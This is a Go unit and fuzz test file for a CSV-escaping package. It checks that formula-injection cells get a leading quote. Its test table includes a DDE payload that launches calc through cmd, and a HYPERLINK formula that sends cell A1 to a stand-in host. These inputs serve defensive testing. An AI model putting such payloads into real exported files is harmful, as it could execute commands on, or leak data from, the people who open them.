package csvsafe

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		"":                            "",
		"张三":                          "张三",
		"=1+1":                        "'=1+1",
		`=HYPERLINK("http://x/?"&A1)`: `'=HYPERLINK("http://x/?"&A1)`,
		"+86 138":                     "'+86 138",
		"-2+3+cmd|' /C calc'!A0":      "'-2+3+cmd|' /C calc'!A0",
		"@SUM(A1:A9)":                 "'@SUM(A1:A9)",
		"\t=1":                        "'\t=1",
		"\r=1":                        "'\r=1",
		"＝1+1":                        "'＝1+1",
		"－1":                          "'－1",
		"-1234.56":                    "-1234.56",
		"+5":                          "+5",
		"-0":                          "-0",
		"-1e3":                        "'-1e3",
		"-":                           "'-",
		"-.5":                         "'-.5",
		"-5.":                         "'-5.",
		"1-1":                         "1-1",
		"a=b":                         "a=b",
		"110101199003077777":          "110101199003077777",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriter(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	rec := []string{"=cmd", "-12.5", "ok"}
	if err := w.WriteAll([][]string{rec}); err != nil {
		t.Fatal(err)
	}
	if rec[0] != "=cmd" {
		t.Error("Write modified its argument")
	}
	got, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(got) != 1 || got[0][0] != "'=cmd" || got[0][1] != "-12.5" || got[0][2] != "ok" {
		t.Fatalf("read back %q %v", got, err)
	}
}

// FuzzCell: a neutralised cell is never risky, and only risky cells change (by one quote).
func FuzzCell(f *testing.F) {
	for _, s := range []string{"=1", "-1", "-1a", "＠x", "", "abc", "+1.5"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := Cell(s)
		if Risky(c) {
			t.Fatalf("Cell(%q) = %q is still risky", s, c)
		}
		if Risky(s) != (c != s) || (c != s && c != "'"+s) {
			t.Fatalf("Cell(%q) = %q", s, c)
		}
	})
}
